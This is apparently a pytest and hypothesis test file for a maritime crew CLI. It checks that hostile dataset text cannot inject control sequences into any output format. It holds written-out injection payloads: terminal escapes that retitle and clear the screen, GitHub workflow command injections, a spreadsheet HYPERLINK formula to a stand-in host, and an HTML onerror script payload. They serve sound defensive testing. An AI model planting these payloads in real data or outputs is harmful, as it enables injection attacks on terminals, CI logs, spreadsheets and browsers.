"""Data cannot inject control sequences into any output (issue 19, section 2).

A dataset's ids, names and titles may hold terminal escape sequences, bidirectional
overrides, newlines, GitHub workflow commands, Markdown and HTML, and spreadsheet
formulas. Every command, in every format, on standard output and standard error alike,
must show them as text:

- no raw C0 or C1 control character (but the newline and tab of a layout), DEL, line or
  paragraph separator, or bidirectional control reaches either stream;
- no line of standard error, nor of any standard output but the GitHub annotations,
  starts (after blanks) with ``::`` or holds ``##[``: a GitHub Actions runner would take
  either for a workflow command;
- no CSV cell starts with ``=``, ``+``, ``-`` or ``@`` unless it is a number the library
  wrote;
- no Markdown line holds a raw ``<`` or ``[`` outside a code span, and every row of a
  table has the cells of its header, so no value broke out of its cell;
- JSON, SARIF and JUnit output still parses.

A synthetic fleet is written once as JSON; each example renames some of its records
(a person, a crew, a course, a duty role, a document, a terms set) and sets some names
and titles to hostile text, and sometimes breaks a date so that the load errors, which
quote ids and file names, are what is printed. The commands run in-process.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import maritime_crew as mc
from maritime_crew import synth
from maritime_crew.cli import main
from maritime_crew.report import (
    escape_csv,
    escape_github_data,
    escape_json,
    escape_markdown,
    escape_terminal,
    escape_workflow_commands,
    escape_xml,
)

AS_OF = "2024-06-01"
"""Three years after the synthetic fleet's reference date: much is due, lapsed or short."""

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
"""What must never reach a stream raw (the newline and the tab of a layout may)."""

NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
FORMULA = ("=", "+", "-", "@", "\t", "\r")

TERMINAL = "BF6666\x1b]0;PWNED\x07\x1b[2J"
"""The issue's id: sets the window title, then clears the screen."""
WORKFLOW = "\n::error file=README.md,line=1::INJECTED\n::stop-commands::tok"
"""The issue's workflow commands, each on a line of its own."""
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = "<img src=x onerror=alert(1)> [link](http://evil.example)\n| cell"

PIECES = [
    "\x1b]0;PWNED\x07",
    "\x1b[2J",
    "\x00",
    "\x07",
    "\x7f",
    "\x85",
    "\x9b31m",
    "\u202e",
    "\u2066",
    "\u200f",
    "\u061c",
    "\u2028",
    "\n",
    "\r\n",
    "\t",
    "\n::error file=README.md,line=1::INJECTED\n",
    "::stop-commands::tok",
    " ::warning::x",
    "##[error]x",
    HYPERLINK,
    "+1",
    "-2+3",
    "@SUM(A1)",
    "<img src=x onerror=alert(1)>",
    "[link](http://evil.example)",
    "|",
    "`",
    "*",
    "_",
    "\\",
    ",",
    '"',
]

payloads = st.lists(
    st.one_of(
        st.sampled_from(PIECES),
        st.characters(categories=["Cc", "Zl", "Zp"], exclude_characters="\x00"),
        st.text(alphabet="ab=+-@:#[ ", max_size=3),
    ),
    min_size=1,
    max_size=4,
).map("".join)
"""Hostile text: controls, bidi, newlines, workflow commands, formulas and markup."""

IDS = ("person", "crew", "course", "duty_role", "document", "terms")
"""Tables whose first record is renamed; every reference to it follows."""
TEXTS = (("person", "name"), ("vessel", "name"), ("document", "title"), ("terms", "title"))


@pytest.fixture(scope="module")
def base() -> dict[str, Any]:
    """The synthetic fleet as JSON data."""
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder) / "fleet"
        synth.write(root, 24, seed=9)
        return dict(json.loads(mc.dumps(mc.load(root), "json")))


def hostile(
    base: dict[str, Any], ids: dict[str, str], texts: dict[tuple[str, str], str], broken: bool
) -> tuple[str, dict[str, str]]:
    """The fleet as JSON text with its records renamed and retitled; the new ids."""
    data = json.loads(json.dumps(base))
    for (table, field), value in texts.items():
        data[table][0][field] = value
    if broken:
        data["person"][0]["joined"] = "2021-02-30"
    text = json.dumps(data, ensure_ascii=False, indent=1)
    renamed = {}
    for table, new in ids.items():
        old = base[table][0]["id"]
        renamed[table] = new
        text = text.replace(
            json.dumps(old, ensure_ascii=False), json.dumps(new, ensure_ascii=False)
        )
    return text, renamed


def commands(renamed: dict[str, str]) -> list[list[str]]:
    """Every command in every format; ``PATH`` stands for the dataset."""
    person, document, terms = renamed["person"], renamed["document"], renamed["terms"]
    nobody = "ZZZ-nobody-at-all-ZZZ"
    runs = [["check", "PATH", "--format", fmt] for fmt in mc.report.FORMATS]
    runs += [["check", "PATH", "--redact", "--format", fmt] for fmt in ("text", "github")]
    runs += [["due", "PATH", "--within", "P2Y", "--format", fmt] for fmt in _TABLES]
    runs += [["skills", "PATH", "--within", "P1Y", "--format", fmt] for fmt in _TABLES]
    runs += [["tna", "PATH", "--format", fmt] for fmt in _TABLES]
    runs += [["skills", "PATH", "--format", "csv", "--table", "coverage"]]
    runs += [["tna", "PATH", "--format", "csv", "--table", table] for table in ("gaps", "trainers")]
    # An id may begin with "-": positional ids follow "--", options take "--opt=id".
    runs += [["pathway", "PATH", "--format", fmt, "--", person] for fmt in ("text", "json")]
    runs += [["terms", "PATH", "--format", fmt] for fmt in _DOCUMENTS]
    runs += [["terms", "PATH", "--format", fmt, "--", terms] for fmt in _DOCUMENTS]
    runs += [["terms", "PATH", f"--person={person}", "--format", fmt] for fmt in ("text", "json")]
    runs += [["register", "PATH", "--format", fmt] for fmt in ("text", "json", "markdown")]
    runs += [["history", "PATH", "--format", fmt, "--", document] for fmt in ("text", "json")]
    runs += [["rules", "--format", fmt] for fmt in ("text", "json")]
    # Usage errors that list the known ids, or quote what was asked for.
    runs += [
        ["terms", "PATH", "--person", nobody],
        ["due", "PATH", "--crew", nobody],
        ["pathway", "PATH", nobody],
        ["explain", "--", person],
    ]
    return runs


_TABLES = ("text", "json", "csv", "markdown")
_DOCUMENTS = ("text", "json", "markdown")


def run(args: list[str], path: Path) -> tuple[int, str, str]:
    """Run a command in-process; its exit code, standard output and standard error."""
    if "PATH" in args and args[0] != "history":  # the one command without a date
        end = args.index("--") if "--" in args else len(args)
        args = [*args[:end], "--as-of", AS_OF, *args[end:]]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(path) if arg == "PATH" else arg for arg in args])
    return code, out.getvalue(), err.getvalue()


def assert_safe(args: list[str], code: int, out: str, err: str) -> None:
    """Everything the command wrote is inert, whatever the data held."""
    assert code in (0, 1, 2), (args, err)
    assert "internal error" not in err, (args, err)
    for stream, text in (("stdout", out), ("stderr", err)):
        found = RAW.findall(text)
        assert not found, (args, stream, found, text[:2000])
    fmt = args[args.index("--format") + 1] if "--format" in args else "text"
    annotations = args[0] == "check" and fmt == "github"
    assert_no_workflow_commands(err)
    if annotations:
        for line in out.splitlines():
            assert re.match(r"::(error|warning|notice) [^\n]*::", line), (args, line)
    else:
        assert_no_workflow_commands(out)
    if code == 2 or not out:
        return
    if fmt in ("json", "sarif"):
        json.loads(out)
    elif fmt == "junit":
        ET.fromstring(out.encode("utf-8"))
    elif fmt == "csv":
        assert_safe_csv(args, out)
    elif fmt == "markdown":
        assert_safe_markdown(args, out)


def assert_no_workflow_commands(text: str) -> None:
    for line in text.split("\n"):
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


def assert_safe_csv(args: list[str], out: str) -> None:
    rows = list(csv.reader(io.StringIO(out)))
    assert rows, args
    for row in rows:
        assert len(row) == len(rows[0]), (args, row)
        for cell in row:
            assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), (args, cell)
            assert "\n" not in cell, (args, cell)
            assert "\r" not in cell, (args, cell)


def _unescaped(line: str, char: str) -> bool:
    """Whether ``char`` occurs in ``line`` without a backslash escaping it."""
    backslashes = 0
    for found in line:
        if found == char and backslashes % 2 == 0:
            return True
        backslashes = backslashes + 1 if found == "\\" else 0
    return False


def _cells(line: str) -> int:
    count, backslashes = 0, 0
    for found in line:
        if found == "|" and backslashes % 2 == 0:
            count += 1
        backslashes = backslashes + 1 if found == "\\" else 0
    return count


def assert_safe_markdown(args: list[str], out: str) -> None:
    header: int | None = None
    for line in out.split("\n"):
        outside_code = re.sub(r"`[^`]*`", "", line)
        for char in "<[":
            assert not _unescaped(outside_code, char), (args, line)
        if not line.startswith("|"):
            header = None
            continue
        assert line.endswith("|"), (args, line)
        if header is None:
            header = _cells(line)
        assert _cells(line) == header, (args, line)


@settings(max_examples=min(settings().max_examples, 12))
@given(
    ids=st.fixed_dictionaries({table: st.tuples(payloads, st.booleans()) for table in IDS}),
    texts=st.fixed_dictionaries(dict.fromkeys(TEXTS, payloads)),
    file_name=payloads,
    broken=st.booleans(),
)
def test_no_command_or_format_lets_data_act(
    base: dict[str, Any],
    ids: dict[str, tuple[str, bool]],
    texts: dict[tuple[str, str], str],
    file_name: str,
    broken: bool,
) -> None:
    new_ids = {
        table: payload + base[table][0]["id"] if first else base[table][0]["id"] + payload
        for table, (payload, first) in ids.items()
    }
    text, renamed = hostile(base, new_ids, texts, broken)
    name = "fleet" + re.sub("[/\x00]", "", file_name)[:100] + ".json"
    with tempfile.TemporaryDirectory() as folder:
        dataset = Path(folder) / "dataset"
        dataset.mkdir()
        (dataset / name).write_text(text, encoding="utf-8")
        for args in commands(renamed):
            code, out, err = run(args, dataset)
            assert_safe(args, code, out, err)


# -- the issue's own examples -------------------------------------------------------------


@pytest.fixture
def dataset_of(base: dict[str, Any], tmp_path: Path) -> Any:
    """Write the fleet with some records renamed or retitled; the dataset directory."""

    def write(
        ids: dict[str, str],
        texts: dict[tuple[str, str], str] | None = None,
        *,
        broken: bool = False,
        name: str = "fleet.json",
    ) -> Path:
        text, _ = hostile(base, ids, texts or {}, broken)
        folder = tmp_path / "dataset"
        folder.mkdir()
        (folder / name).write_text(text, encoding="utf-8")
        return folder

    return write


def test_a_terminal_escape_in_an_id_is_shown_not_run(dataset_of: Any) -> None:
    path = dataset_of(
        {"person": TERMINAL, "crew": "crew\x00\x85\u202ea"},
        {("person", "name"): "Ann\u202eExample\x85", ("vessel", "name"): "HMC\x1b[31mRed"},
    )
    for args in (
        ["check", "PATH"],
        ["check", "PATH", "--format", "github"],
        ["check", "PATH", "--format", "markdown"],
        ["skills", "PATH", "--within", "P1Y"],
        ["pathway", "PATH", TERMINAL],
        ["due", "PATH", "--within", "P2Y"],
    ):
        code, out, err = run(args, path)
        assert code in (0, 1), (args, err)
        assert not RAW.findall(out + err), args
        assert "PWNED" in out, args  # shown, as an escape, not dropped
        if "markdown" in args:  # Markdown escapes the escape's backslash and bracket
            out = re.sub(r"\\([\\\[\]])", r"\1", out)
        assert "\\x1b]0;PWNED\\x07\\x1b[2J" in out, args


def test_workflow_commands_in_an_id_never_start_a_line_of_stderr(dataset_of: Any) -> None:
    path = dataset_of({"person": "BF6666" + WORKFLOW}, broken=True)
    code, out, err = run(["check", "PATH", "--format", "github", "--redact"], path)
    assert code == 2
    assert out == ""
    assert "INJECTED" in err
    assert_no_workflow_commands(err)


def test_workflow_commands_in_a_file_name_and_known_ids_never_start_a_line(
    dataset_of: Any, tmp_path: Path
) -> None:
    path = dataset_of(
        {"person": "BF6666" + WORKFLOW, "crew": "crew" + WORKFLOW},
        broken=True,
        name="fleet" + WORKFLOW.replace("/", "") + ".json",
    )
    code, _, err = run(["check", "PATH", "--format", "github"], path)
    assert code == 2
    assert "INJECTED" in err
    assert_no_workflow_commands(err)
    small = tmp_path / "small"
    small.mkdir()
    person = {"id": "BF1" + WORKFLOW, "name": "Ann", "discipline": "deck"}
    (small / "people.json").write_text(json.dumps({"person": [person]}), encoding="utf-8")
    for args in (
        ["terms", "PATH", "--person", "ZZZ-nobody-at-all-ZZZ"],
        ["explain", "CERT" + WORKFLOW],
    ):
        code, _, err = run(args, small)
        assert code == 2, (args, err)
        assert "INJECTED" in err, err
        assert_no_workflow_commands(err)
        assert not RAW.findall(err), err


def test_workflow_commands_in_a_config_key_never_start_a_line(
    dataset_of: Any,
) -> None:
    path = dataset_of({})
    (path / "maritime-crew.toml").write_text(
        '[severity]\n"CERT001\\u001b[2J\\n::error::INJECTED" = "info"\n'
        '[rules."X\\u001b]0;PWNED\\u0007\\n::error::INJECTED"]\nlimit = 1\n',
        encoding="utf-8",
    )
    code, _, err = run(["check", "PATH", "--format", "github"], path)
    assert code == 2, err
    assert "INJECTED" in err
    assert_no_workflow_commands(err)
    assert not RAW.findall(err), err


def test_markdown_of_skills_terms_and_due_shows_html_and_links_as_text(
    dataset_of: Any,
) -> None:
    path = dataset_of(
        {"person": "BF1<b>", "crew": HTML, "duty_role": "role" + HTML, "terms": "tc" + HTML},
        {("document", "title"): HTML, ("terms", "title"): HTML, ("person", "name"): HTML},
    )
    for args in (
        ["skills", "PATH", "--within", "P1Y", "--format", "markdown"],
        ["tna", "PATH", "--format", "markdown"],
        ["terms", "PATH", "--format", "markdown"],
        ["terms", "PATH", "tc" + HTML, "--format", "markdown"],
        ["due", "PATH", "--within", "P2Y", "--format", "markdown"],
        ["register", "PATH", "--format", "markdown"],
    ):
        code, out, err = run(args, path)
        assert code == 0, (args, err)
        assert "<img" not in out.replace("\\<img", ""), args
        assert "](http" not in out.replace("\\](http", ""), args
        assert_safe_markdown(args, out)


def test_csv_cells_never_start_a_formula(dataset_of: Any) -> None:
    path = dataset_of(
        {"person": HYPERLINK, "crew": "+crew", "course": "-2+3", "duty_role": "@role"},
        {("person", "name"): "=1+1"},
    )
    seen: set[str] = set()
    for args in (
        ["skills", "PATH", "--within", "P1Y", "--format", "csv"],
        ["skills", "PATH", "--format", "csv", "--table", "coverage"],
        ["tna", "PATH", "--format", "csv"],
        ["tna", "PATH", "--format", "csv", "--table", "gaps"],
        ["tna", "PATH", "--format", "csv", "--table", "trainers"],
        ["due", "PATH", "--within", "P2Y", "--format", "csv"],
    ):
        code, out, err = run(args, path)
        assert code == 0, (args, err)
        assert_safe_csv(args, out)
        seen.update(cell for row in csv.reader(io.StringIO(out)) for cell in row)
    assert "'" + HYPERLINK in seen
    assert {"'+crew", "'-2+3", "'@role"} <= seen


# -- the escaping functions ---------------------------------------------------------------


def test_terminal_escaping_shows_controls_as_escapes() -> None:
    assert escape_terminal(TERMINAL) == "BF6666\\x1b]0;PWNED\\x07\\x1b[2J"
    assert escape_terminal("a\x00b\x85c\u202ed\u2066e\tf\ng\rh") == (
        "a\\x00b\\x85c\\u202ed\\u2066e\\tf\\ng\\rh"
    )
    assert escape_terminal("a\tb\nc\x1b", multiline=True) == "a\tb\nc\\x1b"
    assert escape_terminal("Ann Example, ÅØ 日本 🙂") == "Ann Example, ÅØ 日本 🙂"
    lines = escape_terminal("x" + WORKFLOW, multiline=True).split("\n")
    assert lines == ["x", "\\::error file=README.md,line=1::INJECTED", "\\::stop-commands::tok"]
    assert escape_workflow_commands("  ::x::y ##[error]z") == "  \\::x::y #\\#[error]z"
    assert escape_workflow_commands("a::b") == "a::b"
    assert escape_terminal(escape_terminal(TERMINAL + WORKFLOW)) == escape_terminal(
        TERMINAL + WORKFLOW
    )


def test_github_escaping_keeps_a_message_on_its_command_line() -> None:
    assert escape_github_data("50%\r\nnext\x1b[2J") == "50%25%0D%0Anext\\x1b[2J"


def test_markdown_escaping_shows_markup_as_text() -> None:
    assert escape_markdown(HTML) == (
        "\\<img src=x onerror=alert(1)\\> \\[link\\](http://evil.example) \\| cell"
    )
    assert escape_markdown("debrief_finding _x_ **b** `c`") == (
        "debrief_finding \\_x\\_ \\*\\*b\\*\\* \\`c\\`"
    )
    assert escape_markdown("a\x1b[2J") == "a\\\\x1b\\[2J"


def test_csv_escaping_neutralises_formulas_but_not_numbers() -> None:
    assert escape_csv(HYPERLINK) == "'" + HYPERLINK
    assert [escape_csv(text) for text in ("+1", "-1", "@x", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@x",
        "\\tx",
        "\\rx",
    ]
    assert escape_csv(-3) == "-3"
    assert escape_csv(2.5) == "2.5"
    assert escape_csv("a\nb") == "a\\nb"
    assert escape_csv("BF1001") == "BF1001"


def test_json_and_xml_escaping_changes_no_value() -> None:
    value = {"id": "a\x7f\x85\u202e\u2028##[error]", "plain": "Ann Example, ÅØ"}
    text = json.dumps(value, ensure_ascii=False)
    escaped = escape_json(text)
    assert not RAW.findall(escaped)
    assert "##[" not in escaped
    assert json.loads(escaped) == value
    plain = json.dumps({"plain": "Ann Example, ÅØ"}, ensure_ascii=False, indent=2)
    assert escape_json(plain) is plain
    element = ET.Element("x", name="a\x85\u202e")
    element.text = "b\r\n::error::x\n##[error]y"
    document = escape_xml(ET.tostring(element, encoding="unicode"))
    assert not RAW.findall(document)
    assert_no_workflow_commands(document)
    parsed = ET.fromstring(document)
    assert parsed.get("name") == "a\x85\u202e"
    assert parsed.text == "b\r\n::error::x\n##[error]y"
